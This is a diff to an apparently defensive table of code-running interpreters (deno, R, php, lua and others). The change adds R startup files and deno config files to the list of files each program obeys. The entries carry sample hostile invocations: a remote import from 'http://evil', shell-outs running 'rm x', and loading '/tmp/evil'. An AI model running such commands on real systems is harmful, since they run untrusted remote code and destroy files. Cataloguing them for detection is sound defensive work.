@@ -27,6 +27,9 @@ def each_text(command: Command, facts: Facts, name: str, record: Program) -> Ite
             yield from [run_text(name, command, part.strip(), evidence=True) for part in text.split(quote)[1::2]]
 
 
+_R_FILES = ".Rprofile Rprofile.site Rprofile .Rprofile.site"
+"""What R runs first."""
+
 # fmt: off
 RECORDS = (
     Program("python python2 python3 pypy pypy3", language="python", options="-b -B -d -E -h -i -I -O -q -s -S -u -v -V "
@@ -56,7 +59,8 @@ RECORDS = (
         task="2 run=0 task=3", fetches=True, worst="[task] named; [task] target deploy; [test] run -A; [test] run "
         "--allow-run; [test] run --allow-all; [test] load -c /tmp/evil; [fmt] elsewhere /; [lint] elsewhere /; files "
         "fmt lint; exact test check doc info coverage; [] run eval 'import(\"http://evil\")'", example="deno eval "
-        "'require(\"child_process\").execSync(\"rm x\")'", settings="--eval!", sources="javascript"),
+        "'require(\"child_process\").execSync(\"rm x\")'", settings="--eval!", sources="javascript",
+        obeys="deno.json deno.jsonc package.json"),
     Program("php", language="php", options="-a -i -l -m -n -q -s -v -w -B! -R! -E! -r! -d: -c: -f: -F: -S: -t: -z: "
         "--run!", prints="input", broad="-a, artisan, bin/console, artisan tinker, artisan db", task="2 artisan=3 "
         "bin/console=3", worst="[] run ./evil; [artisan] exact test about route:list migrate:status view:cache "
@@ -65,8 +69,9 @@ RECORDS = (
     Program("lua luajit", language="c", options="-e! -l: -i -v -W", broad="-i, -l",
         example="lua -e 'os.execute(\"rm x\")'"),
     Program("Rscript", language="r", options="-e! --vanilla --verbose", example="Rscript -e 'system(\"rm x\")'",
-        obeys="*.Rmd *.qmd *.Rnw"),
-    Program("R", language="r", options="-e! -f: --vanilla --slave --no-save -q -s", example="R -e 'system(\"rm x\")'"),
+        obeys=f"*.Rmd *.qmd *.Rnw {_R_FILES}"),
+    Program("R", language="r", options="-e! -f: --vanilla --slave --no-save -q -s", example="R -e 'system(\"rm x\")'",
+        obeys=_R_FILES),
     Program("julia", language="julia", options="-e! -E! -p: -t: -L: --eval! --print! --project? -q", broad="-i",
         example="julia -e 'run(`rm x`)'"),
     Program("osascript", language="c", options="-e! -l: -s: -i", example="osascript -e 'do shell script(\"rm x\")'"),
